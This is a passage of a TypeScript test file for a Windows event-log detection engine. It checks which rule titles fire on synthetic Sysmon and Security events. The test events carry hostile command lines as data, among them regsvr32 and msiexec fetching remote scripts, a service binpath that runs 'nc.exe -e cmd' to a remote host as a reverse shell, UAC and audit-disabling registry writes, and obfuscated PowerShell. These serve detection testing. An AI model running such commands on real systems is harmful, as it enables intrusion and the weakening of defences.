    expect(titlesOf(set(21, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\Startup', '%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup', 'C:\\Windows\\explorer.exe'))).toEqual([]);
    expect(titlesOf(win(22, ...SYSMON, 17, { Image: `${S32}spoolsv.exe`, PipeName: '\\spoolss' }))).toEqual([]);
    expect(titlesOf(win(23, 'System', 'Service Control Manager', 7036, { param1: 'Print Spooler', param2: 'stopped' }))).toEqual([]);
    expect(titlesOf(sec(24, 4720, { SubjectUserName: 'alice', TargetUserName: 'eve' }))).not.toContain('User Account Created With A Computer-Like Name');
    expect(titlesOf(win(25, ...SYSMON, 7, { Image: `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, ImageLoaded: 'C:\\Windows\\assembly\\System.Management.Automation.ni.dll' }))).toEqual([]);
    expect(titlesOf(sec(26, 4663, { SubjectUserName: 'bob', ObjectName: 'C:\\Users\\bob\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data', ProcessName: 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe' }))).toEqual([]);
    expect(titlesOf(set(27, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\EnableLUA', 'DWORD (0x00000001)'))).toEqual([]);
    expect(titlesOf(sec(28, 4624, { TargetUserName: 'bob', LogonType: 2, ProcessName: `${S32}svchost.exe` }))).toEqual([]);
  });

  it('execution: script content through regsvr32, mshta, rundll32 and wmic; a plain regsvr32 of a DLL is not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    expect(titlesOf(sysmon1(1, `${S32}regsvr32.exe`, 'regsvr32 /s /n /u /i:http://10.0.0.9/a.sct scrobj.dll'))).toContain('Script Content Run Through A Windows Proxy Program');
    expect(titlesOf(sysmon1(2, 'C:\\Users\\bob\\x.exe', 'x.exe /s /i:https://10.0.0.9/a.sct scrobj.dll', { OriginalFileName: 'REGSVR32.EXE' }))).toContain('Script Content Run Through A Windows Proxy Program');
    expect(titlesOf(sysmon1(3, `${S32}wbem\\WMIC.exe`, 'wmic os get /format:"https://10.0.0.9/a.xsl"'))).toContain('Script Content Run Through A Windows Proxy Program');
    expect(titlesOf(sysmon1(4, `${S32}regsvr32.exe`, 'regsvr32 /s C:\\Program Files\\Vendor\\x.dll'))).not.toContain('Script Content Run Through A Windows Proxy Program');
  });

  it('DCOM-activated script hosts, remote execution pipes, programmatic RDP, and a burst of RDP connections', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const rdp = (t: number): Ev =>
      win(t, 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS/Operational', 'Microsoft-Windows-RemoteDesktopServices-RdpCoreTS', 131, { ConnType: 'TCP', ClientIP: `10.0.0.9:${50000 + t}` });
    const h = hits([
      sysmon1(1, `${S32}mshta.exe`, 'C:\\Windows\\System32\\mshta.exe -Embedding', { ParentImage: `${S32}svchost.exe` }),
      sec(2, 5145, { SubjectUserName: 'alice', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'RemCom_communicaton', IpAddress: '10.0.0.9' }),
      win(3, ...SYSMON, 17, { Image: `${S32}svcx.exe`, PipeName: '\\svcx-WKS01-4242-stdin' }),
      win(4, ...SYSMON, 7, { Image: 'C:\\Users\\bob\\SharpRDP.exe', ImageLoaded: `${S32}mstscax.dll` }),
      ...Array.from({ length: 12 }, (_, i) => rdp(100 + i * 2)),
    ]);
    expect(h.get('Script Host Or Console Started Through DCOM Activation')?.tactics).toContain('lateral-movement');
    expect(h.get('Remote Execution Service Pipe Reached Over The Network')?.level).toBe('high');
    expect(h.get('Remote Execution Standard-Stream Pipe (Sysmon 17/18)')?.tactics).toContain('lateral-movement');
    expect(h.get('Remote Desktop ActiveX Client Loaded By Another Program (Sysmon 7)')?.tactics).toEqual(['lateral-movement']);
    expect(h.get('Burst Of Remote Desktop Connections On One Host')).toEqual({ level: 'medium', tactics: ['credential-access', 'discovery'] });
    // Near misses: mshta opening a local file, the spooler pipe, the RDP client itself, a few RDP connections.
    expect(titlesOf(sysmon1(20, `${S32}mshta.exe`, 'mshta.exe C:\\app\\tool.htm'))).toEqual([]);
    expect(titlesOf(sec(21, 5145, { SubjectUserName: 'alice', ShareName: '\\\\*\\IPC$', RelativeTargetName: 'spoolss', IpAddress: '10.0.0.9' }))).toEqual([]);
    expect(titlesOf(win(22, ...SYSMON, 7, { Image: `${S32}mstsc.exe`, ImageLoaded: `${S32}mstscax.dll` }))).toEqual([]);
    expect(hits(Array.from({ length: 12 }, (_, i) => rdp(i * 10))).has('Burst Of Remote Desktop Connections On One Host')).toBe(false);
  });

  it('launcher exports, ftp/pcalua, pipe-echo impersonation, spooler children, remote execution services, inbound enumeration pipes, debug privilege, exit monitors, screensavers, implant ports', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const h = hits([
      sysmon1(1, `${S32}rundll32.exe`, 'rundll32.exe url.dll,FileProtocolHandler calc.exe'),
      sysmon1(2, `${S32}ftp.exe`, 'ftp -s:C:\\Users\\bob\\cmds.txt'),
      sysmon1(3, `${S32}cmd.exe`, 'cmd.exe /c echo abc > \\\\.\\pipe\\abc', { ParentImage: `${S32}services.exe` }),
      sysmon1(4, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}spoolsv.exe` }),
      win(5, 'System', 'Service Control Manager', 7045, { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe' }),
      win(6, ...SYSMON, 18, { EventType: 'ConnectPipe', Image: 'System', PipeName: '\\srvsvc' }),
      sec(7, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeDebugPrivilege', ProcessName: 'C:\\Users\\bob\\m.exe' }),
      win(8, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\SilentProcessExit\\notepad.exe\\MonitorProcess', Details: 'C:\\Users\\bob\\a.exe' }),
      win(9, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Control Panel\\Desktop\\SCRNSAVE.EXE', Details: 'C:\\Users\\bob\\a.scr' }),
      win(10, ...SYSMON, 3, { Image: 'C:\\Users\\bob\\a.exe', Initiated: 'true', DestinationIp: '203.0.113.9', DestinationPort: 4444 }),
    ]);
    expect(h.get('Program Launched Through A Rundll32 Launcher Export')?.tactics).toContain('execution');
    expect(h.get('Commands Run From A Script By ftp Or pcalua')?.tactics).toContain('execution');
    expect(h.get('Command Writes To A Local Named Pipe (getsystem-style Impersonation)')?.level).toBe('high');
    expect(h.get('Shell Or Script Host Started By The Print Spooler')?.tactics).toContain('privilege-escalation');
    expect(h.get('Remote Execution Tool Service Installed')?.tactics).toContain('lateral-movement');
    expect(h.get('Enumeration Pipe Connected From The Network (Sysmon 18)')).toEqual({ level: 'informational', tactics: ['discovery'] });
    expect(h.get('Debug Privilege Used By A Program Outside Windows')?.tactics).toContain('credential-access');
    expect(h.get('Silent Process Exit Monitor Program Set')?.level).toBe('high');
    expect(h.get('Screensaver Program Set')?.tactics).toContain('persistence');
    expect(h.get('Outbound Connection To A Common Implant Port (Sysmon 3)')?.tactics).toEqual(['command-and-control']);
    // Near misses: a System32 Control Panel item, interactive ftp, the spooler starting its own helper, a normal service, a local pipe client, a Windows program's debug privilege, the default screensaver, an inbound connection.
    expect(titlesOf(sysmon1(20, `${S32}rundll32.exe`, 'rundll32.exe shell32.dll,Control_RunDLL C:\\Windows\\System32\\desk.cpl'))).toEqual([]);
    expect(titlesOf(sysmon1(21, `${S32}ftp.exe`, 'ftp ftp.example.net'))).toEqual([]);
    expect(titlesOf(sysmon1(22, `${S32}PrintIsolationHost.exe`, 'PrintIsolationHost.exe', { ParentImage: `${S32}spoolsv.exe` }))).toEqual([]);
    // A spooler shell at System integrity is reported by SigmaHQ's "Suspicious Spool Service Child Process"; regsvr32 there is not.
    expect(titlesOf(sysmon1(28, `${S32}cmd.exe`, 'cmd.exe', { ParentImage: `${S32}spoolsv.exe`, IntegrityLevel: 'System' }))).not.toContain('Shell Or Script Host Started By The Print Spooler');
    expect(titlesOf(sysmon1(29, `${S32}regsvr32.exe`, 'regsvr32.exe C:\\a.dll', { ParentImage: `${S32}spoolsv.exe`, IntegrityLevel: 'System' }))).toContain('Shell Or Script Host Started By The Print Spooler');
    expect(titlesOf(win(23, 'System', 'Service Control Manager', 7045, { ServiceName: 'VendorSvc', ImagePath: 'C:\\Program Files\\Vendor\\svc.exe' }))).toEqual(['New Service Installed']);
    expect(titlesOf(win(24, ...SYSMON, 18, { EventType: 'ConnectPipe', Image: `${S32}svchost.exe`, PipeName: '\\srvsvc' }))).toEqual([]);
    expect(titlesOf(sec(25, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeDebugPrivilege', ProcessName: `${S32}taskmgr.exe` }))).toEqual([]);
    expect(titlesOf(win(26, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: 'HKU\\S-1-5-21-1-2-3-1001\\Control Panel\\Desktop\\SCRNSAVE.EXE', Details: 'C:\\Windows\\System32\\scrnsave.scr' }))).toEqual([]);
    expect(titlesOf(win(27, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: 'false', DestinationIp: '10.0.0.5', DestinationPort: 4444 }))).toEqual([]);
  });

  it('signed proxy programs and WMI process creation from command lines and PowerShell', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const ps = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    const h = hits([
      sysmon1(1, `${S32}msiexec.exe`, 'msiexec /q /i http://203.0.113.9/a.msi'),
      sysmon1(2, `${S32}wbem\\WMIC.exe`, 'wmic /node:10.0.0.5 process call create "cmd.exe /c whoami"'),
      ps(3, "Invoke-WmiMethod -ComputerName srv02 -Class Win32_Process -Name Create -ArgumentList 'calc.exe'"),
    ]);
    expect(h.get('Code Run Through A Signed Windows Proxy Program')?.tactics).toContain('execution');
    expect(h.get('Process Created Through WMI From The Command Line')?.tactics).toEqual(['execution', 'lateral-movement']);
    expect(h.get('PowerShell Creates A Process Through WMI (script block 4104)')?.tactics).toContain('lateral-movement');
    // Near misses: a local MSI, a WMI query, a script that only lists processes.
    expect(titlesOf(sysmon1(20, `${S32}msiexec.exe`, 'msiexec /i C:\\setup\\a.msi'))).toEqual([]);
    expect(titlesOf(sysmon1(21, `${S32}wbem\\WMIC.exe`, 'wmic process list brief'))).not.toContain('Process Created Through WMI From The Command Line');
    expect(titlesOf(ps(22, 'Get-CimInstance Win32_Process | Select-Object Name'))).not.toContain('PowerShell Creates A Process Through WMI (script block 4104)');
  });

  it('framework pipes, GPP files, audit and ETW tampering, AlwaysInstallElevated, service binPath, logon/boot/Active Setup entries, port scans', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const set = (t: number, target: string, details: string): Ev =>
      win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: target, Details: details });
    const conn = (t: number, port: number, image = 'C:\\Users\\bob\\scan.exe'): Ev =>
      win(t, ...SYSMON, 3, { Image: image, Initiated: 'true', DestinationIp: '10.0.0.5', DestinationPort: port });
    const h = hits([
      win(1, ...SYSMON, 17, { Image: `${S32}rundll32.exe`, PipeName: '\\postex_1a2b' }),
      sec(2, 5145, { SubjectUserName: 'bob', ShareName: '\\\\*\\SYSVOL', RelativeTargetName: 'corp.example\\Policies\\{31B2F340}\\Machine\\Preferences\\Groups\\Groups.xml' }),
      sysmon1(3, `${S32}auditpol.exe`, 'auditpol /set /category:"Logon/Logoff" /success:disable /failure:disable'),
      set(4, 'HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security\\{54849625}\\Enabled', 'DWORD (0x00000000)'),
      set(5, 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\Installer\\AlwaysInstallElevated', 'DWORD (0x00000001)'),
      sysmon1(6, `${S32}sc.exe`, 'sc config upnphost binpath= "C:\\Users\\Public\\nc.exe -e cmd 10.0.0.9 4444"'),
      set(7, 'HKU\\S-1-5-21-1-2-3-1001\\Environment\\UserInitMprLogonScript', 'C:\\Users\\bob\\a.bat'),
      ...Array.from({ length: 25 }, (_, i) => conn(100 + i, 20 + i)),
    ]);
    expect(h.get('Named Pipe Of A Post-Exploitation Framework (Sysmon 17/18)')?.tactics).toContain('command-and-control');
    expect(h.has('Named Pipe Created Or Connected (Sysmon 17/18)')).toBe(false);
    expect(h.get('Group Policy Preference File Read Over SYSVOL')?.tactics).toEqual(['credential-access']);
    expect(h.get('Audit Policy Disabled Or Cleared From The Command Line')?.level).toBe('high');
    expect(h.get('Event Tracing Session Or Provider Disabled In The Registry')?.tactics).toEqual(['defense-impairment']);
    expect(h.get('AlwaysInstallElevated Set')?.tactics).toContain('privilege-escalation');
    expect(h.get('Service Program Changed From The Command Line')?.level).toBe('medium');
    expect(h.get('Logon Script, Boot Execute Or Active Setup Entry Written')?.tactics).toContain('persistence');
    expect(h.get('Many Destination Ports Contacted By One Process')).toEqual({ level: 'medium', tactics: ['discovery'] });
    // The connections alone are not reported (the correlation does not generate its base rule's hits).
    expect(h.has('Outbound Network Connection (Sysmon 3)')).toBe(false);
    // Near misses: a PsExec pipe keeps its rule, a machine applying policy, auditpol /get, enabling a provider, the default BootExecute, one port many times.
    expect(titlesOf(win(20, ...SYSMON, 17, { Image: 'C:\\Windows\\PSEXESVC.exe', PipeName: '\\PSEXESVC' }))).toEqual(['Named Pipe Created Or Connected (Sysmon 17/18)']);
    expect(titlesOf(sec(21, 5145, { SubjectUserName: 'WKS01$', ShareName: '\\\\*\\SYSVOL', RelativeTargetName: 'x\\Groups.xml' }))).toEqual([]);
    expect(titlesOf(sysmon1(22, `${S32}auditpol.exe`, 'auditpol /get /category:*'))).not.toContain('Audit Policy Disabled Or Cleared From The Command Line');
    expect(titlesOf(set(23, 'HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Security\\{54849625}\\Enabled', 'DWORD (0x00000001)'))).toEqual([]);
    expect(titlesOf(set(24, 'HKLM\\System\\CurrentControlSet\\Control\\Session Manager\\BootExecute', 'autocheck autochk *'))).toEqual([]);
    // W32Time keeping its own state under TimeProviders, and wevtutil toggling providers while installing a manifest (both seen in OTRF's background).
    expect(titlesOf(win(25, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}svchost.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\NtpClient\\SpecialPollTimeRemaining', Details: 'Binary Data' }))).toEqual([]);
    expect(titlesOf(win(26, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}wevtutil.exe`, TargetObject: 'HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Application\\{fff0196f}\\Enabled', Details: 'DWORD (0x00000000)' }))).toEqual([]);
    expect(titlesOf(set(27, 'HKLM\\System\\CurrentControlSet\\Services\\W32Time\\TimeProviders\\Evil\\DllName', 'C:\\Users\\Public\\t.dll'))).toContain('DLL Registered In A Load-At-Start Location');
    expect(hits(Array.from({ length: 25 }, (_, i) => conn(i, 443, 'C:\\Program Files\\Browser\\b.exe'))).size).toBe(0);
  });

  it('password hive and NTDS.dit handles by other programs, sdclt-style runas handlers', () => {
    expect(titlesOf(sec(1, 4656, { SubjectUserName: 'bob', ObjectName: '\\Device\\HarddiskVolumeShadowCopy1\\Windows\\System32\\config\\SAM', ProcessName: 'C:\\Users\\bob\\copy.exe' }))).toContain('Handle To The SAM, SECURITY Or SYSTEM Hive Or NTDS.dit Requested');
    expect(titlesOf(sec(2, 4663, { SubjectUserName: 'DC01$', ObjectName: 'C:\\Windows\\NTDS\\ntds.dit', ProcessName: 'C:\\Windows\\System32\\lsass.exe' }))).toEqual([]);
    const runas = win(3, 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-Sysmon', 13, { EventType: 'SetValue', Image: 'C:\\Windows\\System32\\reg.exe', TargetObject: 'HKU\\S-1-5-21-1-2-3-1001_Classes\\exefile\\shell\\runas\\command\\IsolatedCommand', Details: 'cmd.exe' });
    expect(titlesOf(runas)).toContain('UAC Bypass Through A Hijacked Auto-Elevating Handler');
  });

  it('user account flags that weaken authentication, delegation, never-expiring passwords and account renames; hardening flags, computer accounts and renames by Windows setup are not', () => {
    const uac = (t: number, flags: string, target = 'svc_backup'): string[] => titlesOf(sec(t, 4738, { SubjectUserName: 'admin', TargetUserName: target, UserAccountControl: `\r\n\t\t${flags}` }));
    for (const [t, flag] of [[1, '%%2082'], [2, '%%2091'], [3, '%%2095']] as const) expect(uac(t, flag)).toContain('Authentication Weakened On A User Account');
    expect(hits([sec(4, 4738, { TargetUserName: 'svc', UserAccountControl: '%%2091' })]).get('Authentication Weakened On A User Account')).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation', 'credential-access'] });
    expect(uac(5, '%%2089')).toContain('User Account Password Set To Never Expire');
    expect(uac(6, '%%2098')).toContain('Delegation Enabled On A User Account');
    // Clearing a flag (%%2050, %%2057, %%2059), marking an account sensitive (%%2094) and a computer account are none of these.
    for (const [t, flag] of [[7, '%%2050'], [8, '%%2057'], [9, '%%2059'], [10, '%%2094']] as const) {
      expect(uac(t, flag).filter((x) => /Weakened|Never Expire|Delegation/.test(x))).toEqual([]);
    }
    expect(uac(11, '%%2082', 'WS01$').filter((x) => /Weakened/.test(x))).toEqual([]);
    expect(titlesOf(sec(12, 4781, { SubjectUserName: 'admin', OldTargetUserName: 'helpdesk', NewTargetUserName: 'Administrat0r' }))).toContain('Account Renamed');
    // A computer account renamed, Windows setup re-applying a group's name as the computer account, a name set to itself.
    expect(titlesOf(sec(13, 4781, { SubjectUserName: 'admin', OldTargetUserName: 'WS01$', NewTargetUserName: 'WS02$' }))).not.toContain('Account Renamed');
    expect(titlesOf(sec(14, 4781, { SubjectUserName: 'WS01$', OldTargetUserName: 'Guests', NewTargetUserName: 'Gäste' }))).not.toContain('Account Renamed');
    expect(titlesOf(sec(15, 4781, { SubjectUserName: 'admin', OldTargetUserName: 'Users', NewTargetUserName: 'Users' }))).not.toContain('Account Renamed');
  });

  it('obfuscated script blocks, SYSTEM-level privileges used by other programs, explicit-credential spraying, loopback NTLM logons, executables arriving over SMB', () => {
    const ps = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    const OBF = 'Obfuscated PowerShell In A Script Block (4104)';
    const obfuscated = [
      "& ( $PSHome[4]+$PSHome[30]+'x') ('Write-Host hi')",
      `(("{3}{0}{5}{1}{4}{2}{6}{7}" -f 'r','o','s','W','-H','ite','t',' hi'))`,
      "'72 101 108' -split ' ' | % { [char]([convert]::ToInt16($_, 8)) }",
      "[char[]]$b | % { [char]($_ -bxor 0x5d) }",
      "('ih tsoH-etirW'[-1..-14] -join '')",
      "('Wr'+'it'+'e-'+'Ho'+'st'+' h'+'i '+'fr'+'om'+' a'+' s'+'cr'+'ip'+'t '+'bl'+'oc'+'k')",
    ];
    for (const [i, text] of obfuscated.entries()) expect(titlesOf(ps(i, text)), text).toContain(OBF);
    expect(hits([ps(9, obfuscated[0] as string)]).get(OBF)).toEqual({ level: 'medium', tactics: ['execution', 'stealth'] });
    // Near misses: an ordinary format string, a few concatenations, a char cast without decoding.
    for (const text of ['"{0} of {1}" -f $i, $n', "$p = 'C:\\' + 'Temp' + '\\' + $name", '[char]65', 'Get-ChildItem | Select-Object -First 1']) expect(titlesOf(ps(10, text)), text).not.toContain(OBF);

    const PRIV = 'Sensitive Privilege Used By A Program Outside Windows';
    expect(hits([sec(20, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Tools\\x\\tool.exe' })]).get(PRIV)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth', 'credential-access'] });
    expect(titlesOf(sec(21, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Windows\\System32\\svchost.exe' }))).not.toContain(PRIV);
    expect(titlesOf(sec(22, 4673, { SubjectUserName: 'bob', PrivilegeList: 'SeChangeNotifyPrivilege', ProcessName: 'C:\\Tools\\x\\tool.exe' }))).not.toContain(PRIV);
    expect(titlesOf(sec(23, 4673, { SubjectUserName: 'WS01$', PrivilegeList: 'SeTcbPrivilege', ProcessName: 'C:\\Agent\\agent.exe' }))).not.toContain(PRIV);

    const SPRAY = 'Explicit Credentials For Many Accounts From One Logon Session (password spraying)';
    const explicit = (t: number, target: string, logon = '0x3069d'): Ev =>
      sec(t, 4648, { SubjectUserName: 'alice', SubjectLogonId: logon, TargetUserName: target, TargetServerName: 'FS01', IpAddress: '10.0.0.5', IpPort: '445' });
    expect(hits(Array.from({ length: 12 }, (_, i) => explicit(30 + i, `user${i}`))).get(SPRAY)).toEqual({ level: 'high', tactics: ['credential-access'] });
    // One account many times, or nine accounts, is no spray.
    expect(hits(Array.from({ length: 12 }, (_, i) => explicit(30 + i, 'svc_backup'))).has(SPRAY)).toBe(false);
    expect(hits(Array.from({ length: 9 }, (_, i) => explicit(30 + i, `user${i}`))).has(SPRAY)).toBe(false);

    const LOOP = 'NTLM Network Logon Of A Named Account From The Host Itself';
    const logon = (t: number, extra: JsonRecord): Ev =>
      sec(t, 4624, { LogonType: 3, AuthenticationPackageName: 'NTLM', TargetUserName: 'admin', TargetUserSid: 'S-1-5-21-1-2-3-1004', IpAddress: '127.0.0.1', ...extra });
    expect(hits([logon(50, {})]).get(LOOP)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(logon(51, { IpAddress: '10.0.0.9' }))).not.toContain(LOOP);
    expect(titlesOf(logon(52, { TargetUserName: 'ANONYMOUS LOGON', TargetUserSid: 'S-1-5-7' }))).not.toContain(LOOP);
    expect(titlesOf(logon(53, { AuthenticationPackageName: 'Kerberos' }))).not.toContain(LOOP);

    const SMB = 'Executable Written By The System Process (file copied in over SMB)';
    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
    expect(hits([file(60, 'System', 'C:\\Windows\\payload.exe')]).get(SMB)).toEqual({ level: 'medium', tactics: ['lateral-movement', 'command-and-control'] });
    expect(titlesOf(file(61, 'System', 'C:\\Windows\\SoftwareDistribution\\Download\\x\\setup.exe'))).not.toContain(SMB);
    expect(titlesOf(file(62, 'System', 'C:\\Users\\bob\\Documents\\report.docx'))).not.toContain(SMB);
    expect(titlesOf(file(63, 'C:\\Windows\\explorer.exe', 'C:\\Users\\bob\\Downloads\\tool.exe'))).not.toContain(SMB);
  });

  it('registry writes from the command line: auto-start locations, weakened or hidden defences, proxy settings, RDP history deleted; reads are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const ASEP = 'Auto-Start Registry Location Written From The Command Line';
    const WEAK = 'Registry Value That Weakens Or Hides Windows Defences Written From The Command Line';
    const ps = (t: number, command: string): Ev => sysmon1(t, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, `"powershell.exe" & {${command}}`);
    const reg = (t: number, args: string): Ev => proc(t, `${S32}reg.exe`, `reg add ${args}`);
    expect(hits([reg(1, '"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\calc.exe" /v Debugger /d cmd.exe /f')]).get(ASEP)).toEqual({ level: 'medium', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(ps(2, 'Set-ItemProperty "HKCU:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\" "Userinit" "Userinit.exe, C:\\x\\a.exe" -Force'))).toContain(ASEP);
    expect(titlesOf(ps(3, `Set-ItemProperty -Path 'HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon' -Name 'Shell' -Value 'explorer.exe, a.exe'`))).toContain(ASEP);
    expect(titlesOf(ps(4, 'New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce -Name x -Value a.exe'))).toContain(ASEP);
    expect(titlesOf(reg(5, 'HKCU\\Software\\Classes\\CLSID\\{00000000-0000-0000-0000-000000000001}\\InprocServer32 /ve /d C:\\x\\a.dll /f'))).toContain(ASEP);
    // Reading the same keys, or a Winlogon value that starts nothing, is not.
    expect(titlesOf(proc(6, `${S32}reg.exe`, 'reg query "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"'))).not.toContain(ASEP);
    expect(titlesOf(ps(7, 'Get-ItemProperty HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run'))).not.toContain(ASEP);
    expect(titlesOf(ps(8, 'Set-ItemProperty -Path "HKLM:\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon" -Name AutoRestartShell -Value 1'))).not.toContain(ASEP);

    expect(hits([reg(10, 'HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA /t REG_DWORD /d 0 /f')]).get(WEAK)).toEqual({ level: 'medium', tactics: ['stealth', 'defense-impairment'] });
    for (const [t, args] of [
      [11, 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v DisableTaskMgr /t REG_DWORD /d 1 /f'],
      [12, 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit /v ProcessCreationIncludeCmdLine_Enabled /t REG_DWORD /d 0 /f'],
      [13, 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer /v NoRun /t REG_DWORD /d 1 /f'],
      [14, 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\Advanced /v ShowSuperHidden /t REG_DWORD /d 0 /f'],
    ] as const) expect(titlesOf(reg(t, args)), args).toContain(WEAK);
    // A Run policy key without NoRun, a query of EnableLUA, a value no policy knows.
    expect(titlesOf(reg(15, 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\Explorer /v NoDriveTypeAutoRun /d 145 /f'))).not.toContain(WEAK);
    expect(titlesOf(proc(16, `${S32}reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System /v EnableLUA'))).not.toContain(WEAK);
    expect(titlesOf(reg(17, 'HKCU\\Software\\Vendor\\App /v Theme /d dark /f'))).toEqual([]);

    expect(hits([reg(20, '"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v ProxyServer /d 10.0.0.9:8080 /f')]).get('Proxy Set In The Registry From The Command Line')).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(proc(21, `${S32}reg.exe`, 'reg query "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Internet Settings" /v ProxyServer'))).toEqual([]);
    const HIST = 'Remote Desktop Connection History Deleted From The Command Line';
    expect(hits([proc(22, `${S32}reg.exe`, 'reg delete "HKEY_CURRENT_USER\\Software\\Microsoft\\Terminal Server Client\\Default" /va /f')]).get(HIST)).toEqual({ level: 'low', tactics: ['stealth'] });
    expect(titlesOf(proc(23, `${S32}reg.exe`, 'reg query "HKEY_CURRENT_USER\\Software\\Microsoft\\Terminal Server Client\\Servers"'))).not.toContain(HIST);
    // reg.exe's own command line as Windows records it ("reg  add", two spaces), seen without its parent shell.
    expect(titlesOf(win(24, ...SYSMON, 1, { Image: `${S32}reg.exe`, CommandLine: 'reg  add "HKLM\\Software\\Microsoft\\Windows NT\\CurrentVersion\\Accessibility\\ATs\\x" /v StartExe /d a.exe /f' }))).toContain(ASEP);
    expect(titlesOf(win(25, ...SYSMON, 1, { Image: `${S32}reg.exe`, CommandLine: 'reg  add "HKLM\\SOFTWARE\\Microsoft\\Security Center" /v UACDisableNotify /t REG_DWORD /d 1 /f' }))).toContain(WEAK);
    expect(titlesOf(win(26, ...SYSMON, 1, { Image: `${S32}reg.exe`, CommandLine: 'reg  export "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run" run.reg' }))).not.toContain(ASEP);
  });

  it('scheduled tasks from PowerShell and Startup folder items; task queries, the module source and other folders are not', () => {
    const PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
    const TASK = 'Scheduled Task Created Or Changed From PowerShell';
    expect(hits([sysmon1(1, PS, '"powershell.exe" & {$a = New-ScheduledTaskAction -Execute calc.exe; Register-ScheduledTask -TaskName t -Action $a}')]).get(TASK)).toEqual({ level: 'low', tactics: ['execution', 'persistence', 'privilege-escalation'] });
    expect(titlesOf(sysmon1(2, PS, 'powershell.exe -c "Get-ScheduledTask | Select-Object TaskName"'))).not.toContain(TASK);
    const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text });
    expect(titlesOf(block(3, "Invoke-CimMethod -ClassName PS_ScheduledTask -Namespace Root\\Microsoft\\Windows\\TaskScheduler -MethodName RegisterByXml"))).toContain(`${TASK} (script block 4104)`);
    expect(titlesOf(block(4, 'function Register-ScheduledTask { [CmdletBinding()] param() }'))).not.toContain(`${TASK} (script block 4104)`);
    const START = 'Startup Folder Named On A Command Line';
    expect(hits([sysmon1(5, 'C:\\Windows\\System32\\cscript.exe', '"C:\\Windows\\system32\\cscript.exe" "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\x.vbs"')]).get(START)).toEqual({ level: 'low', tactics: ['persistence', 'privilege-escalation'] });
